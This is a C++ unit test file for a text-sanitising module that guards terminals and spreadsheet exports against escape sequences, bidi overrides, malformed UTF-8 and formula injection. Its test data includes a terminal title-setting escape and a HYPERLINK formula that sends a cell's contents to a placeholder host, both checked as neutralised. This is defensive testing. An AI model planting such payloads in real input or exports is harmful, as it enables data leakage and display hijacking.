// base/text_safety: what a kiosk or a visitor sent, made harmless for terminals and spreadsheets.
#include <catch2/catch_test_macros.hpp>

#include "base/text_safety.h"

TEST_CASE("unsafe text: controls, escapes, bidi overrides and broken UTF-8", "[text_safety]") {
    CHECK_FALSE(base::HasUnsafeText("Anna Bērziņa"));
    CHECK_FALSE(base::HasUnsafeText("Анна Берзиня, ģimene ☺ 🙂"));
    CHECK_FALSE(base::HasUnsafeText("طالب لجوء"));   // Arabic letters are letters
    CHECK_FALSE(base::HasUnsafeText("a\tb"));
    CHECK(base::HasUnsafeText("a\nb"));
    CHECK_FALSE(base::HasUnsafeText("a\nb", /*allow_newlines=*/true));
    CHECK(base::HasUnsafeText(std::string("a\0b", 3)));
    CHECK(base::HasUnsafeText("\x1b[2J\x1b[31mred"));
    CHECK(base::HasUnsafeText("\xc2\x9b" "31m"));          // C1 CSI
    CHECK(base::HasUnsafeText("abc\xe2\x80\xae" "cba"));   // U+202E RIGHT-TO-LEFT OVERRIDE
    CHECK(base::HasUnsafeText("\xe2\x81\xa6x\xe2\x81\xa9")); // U+2066 / U+2069 isolates
    CHECK(base::HasUnsafeText("\xff\xfe"));
    CHECK(base::HasUnsafeText("\xc0\x80"));                // overlong NUL
    CHECK(base::HasUnsafeText("\xed\xa0\x80"));            // a surrogate
    CHECK(base::HasUnsafeText("\xe2\x82"));                // truncated
}

TEST_CASE("for a terminal, every unsafe character becomes U+FFFD and nothing else changes", "[text_safety]") {
    CHECK(base::ForTerminal("fw-1.2 ā") == "fw-1.2 ā");
    CHECK(base::ForTerminal("\x1b]0;pwned\x07") == "\xEF\xBF\xBD]0;pwned\xEF\xBF\xBD");
    CHECK(base::ForTerminal("a\nb") == "a\xEF\xBF\xBD" "b");
    CHECK(base::ForTerminal("x\xe2\x80\xaey") == "x\xEF\xBF\xBDy");
    CHECK(base::ForTerminal("\xff") == "\xEF\xBF\xBD");
}

TEST_CASE("for a spreadsheet, no cell starts a formula", "[text_safety]") {
    CHECK(base::ForSpreadsheet("=HYPERLINK(\"http://x\"&A1,\"Click\")") == "'=HYPERLINK(\"http://x\"&A1,\"Click\")");
    CHECK(base::ForSpreadsheet("+371 20000000") == "'+371 20000000");
    CHECK(base::ForSpreadsheet("-1") == "'-1");
    CHECK(base::ForSpreadsheet("@SUM(A1)") == "'@SUM(A1)");
    CHECK(base::ForSpreadsheet("\t=1") == "'\t=1");
    CHECK(base::ForSpreadsheet("Anna = Anna") == "Anna = Anna");
    CHECK(base::ForSpreadsheet("line\nbreak") == "line\nbreak");
    CHECK(base::ForSpreadsheet(std::string("nul\0", 4)) == "nul\xEF\xBF\xBD");
}
